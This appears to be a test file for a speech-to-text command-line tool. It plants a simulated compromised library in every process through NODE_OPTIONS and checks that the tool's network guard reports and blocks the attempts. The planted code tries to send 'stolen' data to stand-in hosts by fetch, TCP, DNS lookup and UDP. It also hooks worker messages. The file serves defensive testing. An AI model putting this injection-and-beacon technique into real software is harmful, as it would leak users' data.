import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { tinyLanguageModel } from '../../../src-main/testing/tiny-language.ts'
import { product } from './product.ts'
import type { Tried } from './trials.ts'

const sample = join(import.meta.dirname, '../../../resources/samples/four-sentences.wav')

/** As a library would that was taken over: it waits until the program has begun, then tries all it knows. */
const planted = `
import { createSocket } from 'node:dgram'
import { lookup } from 'node:dns'
import { connect, Socket } from 'node:net'
import { parentPort } from 'node:worker_threads'
const before = Socket.prototype.connect
const reachOut = () => {
  fetch('https://speech.example/').catch(() => {})
  connect(443, '203.0.113.9').on('error', () => {})
  lookup('stolen-words.speech.example', () => {})
  createSocket('udp4').on('error', () => {}).send('words', 53, '203.0.113.8', () => {})
}
const post = parentPort?.postMessage
const waiting = setInterval(() => {
  if (post || Socket.prototype.connect === before) return
  clearInterval(waiting)
  reachOut()
}, 5)
waiting.unref()
// A thread has no time to wait: it ends with its work, so the first word it says is taken.
if (post) parentPort.postMessage = function (...words) {
  parentPort.postMessage = post
  reachOut()
  return post.apply(this, words)
}`

const ways = ['speech.example', '203.0.113.9', 'stolen-words.speech.example', '203.0.113.8']

/** Code that was planted in every process and thread, in both settings: nothing is being fetched. */
export async function plantedCode(): Promise<Tried> {
  using rtstt = product()
  const plant = join(rtstt.folder, 'planted.mjs')
  writeFileSync(plant, planted)
  const env = { NODE_OPTIONS: `--import=${pathToFileURL(plant).href}` }
  const broken: string[] = []
  for (const words of [
    ['models', 'add', tinyLanguageModel()],
    ['transcribe', sample],
    ['summarize', 'last'],
    ['settings', 'network', 'off'],
    ['export', 'last', '--format', 'pdf', '--output', join(rtstt.folder, 'a.pdf')],
  ]) {
    const { code, err } = await rtstt.run(words, env)
    if (code !== 0) broken.push(`rtstt ${words[0]}: exit code ${code}: ${err.slice(-200)}`)
  }
  const { attempts } = await rtstt.report()
  const tried = attempts.filter(({ host }) => ways.includes(host))
  for (const by of ['engine', 'recognition', 'language', 'thread'] as const)
    for (const host of ways)
      if (!tried.some((one) => one.by === by && one.host === host))
        broken.push(`the report does not tell that ${by} wanted ${host}`)
  if (tried.some(({ allowed }) => allowed)) broken.push('an attempt was let through')
  return {
    fault: 'planted code in every process reaches out',
    tried: tried.length,
    broken: [...broken, ...rtstt.leaks()],
  }
}
